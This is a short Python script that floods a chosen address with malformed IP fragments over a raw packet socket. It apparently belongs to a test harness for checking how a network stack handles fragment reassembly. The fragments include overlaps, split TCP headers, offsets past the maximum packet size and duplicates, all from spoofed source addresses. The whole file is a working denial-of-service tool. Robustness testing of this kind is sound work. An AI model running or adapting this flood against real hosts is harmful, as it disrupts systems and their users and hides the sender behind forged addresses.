"""Fragments that never make a packet: fragment_flood.py INTERFACE ADDRESS RATE SECONDS

First fragments, overlaps, torn TCP headers, fragments beyond the longest packet, from addresses where nobody is. Says `flooding`
once a second of them has been sent, and how many were sent at the end.
"""
import random
import socket
import struct
import sys
import time

from frames import checksum, station_of

interface, address, rate, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
# The kernel finds out where the stack is.
try:
    socket.create_connection((address, 9), timeout=5).close()
except OSError:
    pass
raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
raw.bind((interface, 0))
ethernet = station_of(address) + raw.getsockname()[4] + b"\x08\x00"
target = socket.inet_aton(address)


def fragment(source, number, offset, more, length, protocol=17):
    field = offset // 8 | (0x2000 if more else 0)
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + length, number, field, 64, protocol, 0) + source + target
    return ethernet + ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + bytes(length)


def some():
    source = target[:3] + bytes([random.randrange(100, 250)])
    number = random.getrandbits(16)
    kind = random.randrange(6)
    if kind == 0:  # an overlap by 8
        return [fragment(source, number, 0, True, 800), fragment(source, number, 792, False, 80)]
    if kind == 1:  # a TCP header in two parts
        return [fragment(source, number, 0, True, 16, 6), fragment(source, number, 8, False, 80, 6)]
    if kind == 2:  # behind the end of every packet
        return [fragment(source, number, 65528, False, 800)]
    if kind == 3:  # the same twice
        return [fragment(source, number, 1480, True, 400)] * 2
    return [fragment(source, number, 0, True, 1480)]


random.seed(1)
start = time.monotonic()
sent = 0
said = False
while (elapsed := time.monotonic() - start) < seconds:
    for _ in range(min(int(elapsed * rate) - sent, 200)):
        for frame in some():
            raw.send(frame)
        sent += 1
    if elapsed > 1 and not said:
        said = True
        print("flooding", flush=True)
    time.sleep(0.001)
print("sent", sent, flush=True)
